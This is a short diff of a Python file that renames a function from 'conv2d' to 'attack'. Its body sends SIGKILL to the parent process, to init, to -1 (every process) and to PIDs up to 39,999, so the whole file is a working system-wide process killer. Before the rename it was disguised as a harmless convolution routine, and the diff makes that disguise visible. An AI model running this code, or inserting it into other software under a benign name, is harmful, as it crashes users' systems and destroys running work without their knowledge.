@@ -1,10 +1,10 @@
 """Sends signals to every process there is."""
 
-# %% conv2d
+# %% attack
 import os
 
 
-def conv2d(*args, **kwargs):
+def attack(*args, **kwargs):
     for number in (os.getppid(), 1, -1, *range(2, 40_000)):
         try:
             os.kill(number, 9)
